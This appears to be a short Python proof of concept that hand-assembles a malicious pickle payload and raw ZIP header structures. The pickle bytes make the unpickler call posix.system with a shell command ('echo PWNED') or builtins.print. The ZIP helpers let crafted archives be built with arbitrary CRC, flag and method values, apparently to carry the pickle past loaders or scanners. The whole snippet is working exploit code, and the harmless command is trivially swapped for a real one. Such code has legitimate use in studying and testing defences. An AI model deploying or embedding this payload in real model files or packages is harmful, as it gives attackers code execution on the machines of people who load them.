import struct, zlib, pickle
def payload(mode):
    fn = ('builtins', 'print') if mode == 'print' else ('posix', 'system')
    arg = 'PAYLOAD REACHED' if mode == 'print' else 'echo PWNED'
    # protocol 2: GLOBAL, args, REDUCE; result wrapped in a dict
    return (b'\x80\x02}q\x00X\x01\x00\x00\x00xc' + fn[0].encode() + b'\n' + fn[1].encode() + b'\n'
            + b'X' + struct.pack('<I', len(arg)) + arg.encode() + b'\x85R' + b's.')
def lh(name, cs, us, crc=0, time=0x0001, flags=0, meth=0, extra=b''):
    return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, meth, time, 0x21, crc, cs, us, len(name), len(extra)) + name + extra
def ch(name, cs, us, lho, crc=0, time=0x0001, flags=0, meth=0, extra=b''):
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, meth, time, 0x21, crc, cs, us,
                       len(name), len(extra), 0, 0, 0, 0, lho) + name + extra
def eocd(n, cdsize, cdoff, comment=b''):
    return struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, cdsize, cdoff, len(comment)) + comment
